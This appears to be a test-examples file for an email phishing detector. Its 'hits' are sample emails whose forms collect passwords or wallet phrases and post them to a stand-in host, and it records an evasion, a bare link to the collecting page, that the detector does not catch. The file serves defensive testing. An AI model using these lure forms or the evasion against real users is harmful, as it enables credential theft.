import type { Examples } from "@doorward/core";
import { makeMail } from "../example-mail.ts";

const form = (fields: string) =>
  `<p>Your mailbox is nearly full.</p><form action="https://collect.stranger.example/p" method="post">${fields}<button>Go</button></form>`;

/** Forms in mail that take secrets, and forms and fields that do not. */
export const examples: Examples = {
  hits: [
    {
      name: "a password in the mail itself",
      files: {
        "mail.eml": makeMail({
          subject: "Mailbox full",
          html: form('<input name="u"><input type="password" name="p">'),
        }),
      },
    },
    {
      name: "a password beside the address it belongs to",
      files: {
        "mail.eml": makeMail({
          subject: "Confirm",
          html: form(
            '<input name="mail" value="ann@company.example"><input type="password" name="pass" placeholder="Password">',
          ),
        }),
      },
    },
    {
      name: "the form of a wallet",
      files: {
        "mail.eml": makeMail({
          subject: "Validate your wallet",
          html: form('<input type="password" name="phrase" placeholder="Wallet password">'),
        }),
      },
    },
  ],
  misses: [
    {
      name: "a survey",
      why: "It asks for an opinion and no secret.",
      files: {
        "mail.eml": makeMail({
          subject: "How was it?",
          html: '<form action="https://survey.stranger.example/a"><input type="radio" name="stars" value="5"><button>Send</button></form>',
        }),
      },
    },
    {
      name: "a search",
      why: "What is typed there is no secret.",
      files: {
        "mail.eml": makeMail({
          subject: "Our catalogue",
          html: '<form action="https://shop.stranger.example/search"><input name="q" placeholder="Search"></form>',
        }),
      },
    },
    {
      name: "a newsletter with a button",
      why: "There is no form in it.",
      files: {
        "mail.eml": makeMail({ subject: "News", html: '<p><a href="https://shop.stranger.example/">Read on</a></p>' }),
      },
    },
  ],
  evasions: [
    {
      name: "the form lies on a page behind a link",
      caughtBy: "nothing",
      files: {
        "mail.eml": makeMail({
          subject: "Mailbox full",
          html: '<p><a href="https://collect.stranger.example/p">Get more space</a></p>',
        }),
      },
    },
  ],
};
